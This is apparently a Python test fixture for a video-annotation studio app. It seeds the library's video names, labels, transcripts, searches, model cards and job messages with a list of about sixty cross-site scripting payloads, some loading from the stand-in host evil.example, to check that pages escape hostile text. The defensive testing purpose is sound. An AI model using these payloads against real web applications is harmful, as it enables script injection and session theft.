"""A library whose every text is an attack: what the tests of hostile text put where text of people reaches a page."""

import json
import shutil
import sqlite3
from pathlib import Path
from typing import Any

from studio.config import Settings
from studio.service import Studio
from studio.store import runs, videos
from studio.timeline import ModelRun, Prediction, Segment, us

RUN = "window.__pwned=1"
AWAY = "//evil.example/x"
# An element that any of these makes carries the attribute `pwn`: that is how it is found.
PAYLOADS = [
    f"<img pwn src=x onerror={RUN}>", f"<img pwn src={AWAY}>", "<img pwn src=x onerror=alert(1)>",
    f"<IMG PWN SRC=x OnErRoR={RUN}>", f"<img pwn/src=x/onerror={RUN}>", f"<img pwn src=`x`onerror={RUN}>",
    f"<script pwn>{RUN}</script>", f"<script pwn src={AWAY}></script>", f"<ScRiPt pwn>{RUN}</sCrIpT>",
    f"<scr<script pwn>ipt>{RUN}</script>", f"</script><script pwn>{RUN}//</script>", f"<<script pwn>{RUN}//<</script>",
    f"<svg pwn onload={RUN}>", f"<svg pwn/onload={RUN}//", f"<svg pwn><script>{RUN}</script></svg>",
    f"<svg pwn><animate onbegin={RUN} attributeName=x>", f"<svg pwn><a xlink:href=javascript:{RUN}><text>x",
    f"<iframe pwn src=javascript:{RUN}>", "<iframe pwn srcdoc='<script>parent.__pwned=1</script>'>",
    f"<iframe pwn src={AWAY}>", f"<object pwn data=javascript:{RUN}>", f"<embed pwn src=javascript:{RUN}>",
    f"<body pwn onload={RUN}>", f"<details pwn open ontoggle={RUN}>x", f"<input pwn autofocus onfocus={RUN}>",
    f"<select pwn autofocus onfocus={RUN}>", f"<textarea pwn autofocus onfocus={RUN}>", 
    f"<video pwn onerror={RUN} src=x>",
    f"<video pwn><source onerror={RUN}></video>", f"<audio pwn src=x onerror={RUN}>", f"<marquee pwn onstart={RUN}>",
    f"<a pwn href=javascript:{RUN}>x</a>", f"<form pwn action=javascript:{RUN}><button>x", f"<base pwn href={AWAY}>",
    f"<link pwn rel=stylesheet href={AWAY}>", f"<style pwn>@import '{AWAY}';</style>",
    f"<meta pwn http-equiv=refresh content=0;url={AWAY}>", f"<math pwn><mi xlink:href=javascript:{RUN}>",
    f"<div pwn style=background:url({AWAY})>", f"<p pwn onmouseover={RUN}>x</p>", f"<template pwn><img onerror={RUN}>",
    f"\"><img pwn src=x onerror={RUN}>", f"'><img pwn src=x onerror={RUN}>", f"\" pwn onfocus={RUN} autofocus=\"",
    f"' pwn onmouseover={RUN} x='", f"</option></select><img pwn src=x onerror={RUN}>",
    f"</textarea><img pwn src=x onerror={RUN}>", f"</title><svg pwn onload={RUN}>", f"--><img pwn src=x onerror={RUN}>",
    f"]]><img pwn src=x onerror={RUN}>", f"&lt;img pwn src=x onerror={RUN}&gt;", f"&#60;img pwn onerror={RUN}&#62;",
    f"%3Cimg pwn src=x onerror={RUN}%3E", f"\\u003cimg pwn src=x onerror={RUN}\\u003e", f"javascript:{RUN}",
    f"${{{RUN}}}", f"{{{{{RUN}}}}}", f"`+({RUN})+`", f"';{RUN};//", f"\u202e<img pwn src=x onerror={RUN}>\u202c",
]  # fmt: skip
STEP = 0.16  # s between the segments of the video that has them all
GROUP = 10  # videos that one search shows
LAUNCH = """import sys, pathlib; from studio.models import registry
registry.WEIGHTS = pathlib.Path(sys.argv.pop(1))
from studio.cli import main
sys.exit(main())"""


def fill(home: Path, clip: Path) -> tuple[str, list[str]]:
    """Make the library; returns the video in which everything is, and the videos that only have a name and a line."""
    studio = Studio(Settings(home=home, device="cpu"))
    row = studio.videos.add(clip)
    studio.jobs.index(row["id"])
    named = [_twin(studio, row, number) for number in range(len(PAYLOADS))]
    _annotate(studio, row["id"])
    _propose(studio, row["id"])
    names = [{"track": f"Person {n}", "from": 0, "name": text} for n, text in enumerate(PAYLOADS)]
    studio.timelines.save(row["id"], [{"op": "people", "edit_id": "names", "before": [], "after": names}])
    for number, text in enumerate(PAYLOADS):
        studio.transcripts.save_line(row, None, number * STEP, number * STEP + STEP, text)
        studio.transcripts.save_line(studio.videos.get(named[number]), None, 1, 2, f"zebra {text}")
        studio.search.save(text, {"query": text}, text)
    studio.close()
    return row["id"], named


def _twin(studio: Studio, row: dict[str, Any], number: int) -> str:
    """The same video under a hostile name; what is computed of it is a copy."""
    twin = {
        **row,
        "id": f"twin{number:08d}",
        "path": f"/nowhere/{number}",
        "name": f"{PAYLOADS[number]} g{number // GROUP}",
    }
    twin.pop("added")
    studio.store.write(lambda db: videos.insert(db, twin))
    shutil.copytree(studio.cache.folder(row["id"]), studio.cache.folder(twin["id"]), dirs_exist_ok=True)
    return str(twin["id"])


def _annotate(studio: Studio, video: str) -> None:
    for number, text in enumerate(PAYLOADS):
        edit = {
            "edit_id": f"e{number}", "op": "create", "base_version": 0, "id": f"a{number}", "track": text,
            "label": text, "note": text, "start": number * STEP, "end": number * STEP + STEP,
        }  # fmt: skip
        told = {**edit, "edit_id": f"h{number}", "op": "update" if number else "create", "base_version": number,
                "id": "told", "track": "Told", "note": ""}  # fmt: skip
        results = studio.timelines.save(video, [edit, told], text)["results"]
        assert all(result["ok"] for result in results), results
        studio.labels.add(text, text)


def _propose(studio: Studio, video: str) -> None:
    def part(number: int) -> Segment:
        return Segment(us(number * STEP), us(number * STEP + STEP))

    each = list(enumerate(PAYLOADS))
    guesses = [Prediction(part(n), "Guesses", text, 0.5, f"guess{n}") for n, text in each]
    speaking = [Prediction(part(n), f"Person {n}", "speaking", 0.9, f"speak{n}") for n, _ in each]
    curves = [{"track": text, "label": text, "times": [0, 9], "scores": [0.1, 0.9]} for text in PAYLOADS]
    faces = [
        {"track": f"Person {n}", "boxes": [[0, 1, 1, 9, 9]], "times": [0, 9], "scores": [0.1, 0.9]} for n, _ in each
    ]
    made = [
        ModelRun(video, "emotion", "one", "1", guesses, {"curves": curves}),
        ModelRun(video, "speaker", "one", "1", speaking, {"tracks": faces}),
        *(
            ModelRun(video, "grounding", text, "1", [], {"curve": {"times": [0, 9], "scores": [0, 1]}}, text)
            for text in PAYLOADS
        ),
    ]
    studio.store.write(lambda db: [runs.insert(db, run) for run in made])


def weights(folder: Path, original: Path) -> Path:
    """A folder of weights with a card for each payload more than the product's own."""
    folder.mkdir()
    for file in original.iterdir():
        (folder / file.name).symlink_to(file)
    for number, text in enumerate(PAYLOADS):
        fields = dict.fromkeys(("name", "version", "licence", "source", "summary", "fetch"), text)
        head = "\n".join(f"{key} = {json.dumps(value)}" for key, value in {**fields, "task": "expression"}.items())
        brought = f'[files]\nnet = ["user:hostile{number}.pt", ""]'
        (folder / f"zz{number}.md").write_text(f"+++\n{head}\n{brought}\n+++\n", "utf-8")
    return folder


def put_jobs(home: Path, state: str, messages: dict[str, str]) -> None:
    """Jobs of videos as they stand in the table, in place of all others."""
    rows = [
        (f"job{video}", "index", video, "{}", state, 0.5, text, text if state == "failed" else None, "2026", number)
        for number, (video, text) in enumerate(messages.items())
    ]
    with sqlite3.connect(home / "studio.db", timeout=30) as db:
        db.execute("DELETE FROM jobs")
        db.executemany(
            "INSERT INTO jobs (id, kind, video_id, params, state, progress, message, error, created, position) "
            "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
            rows,
        )
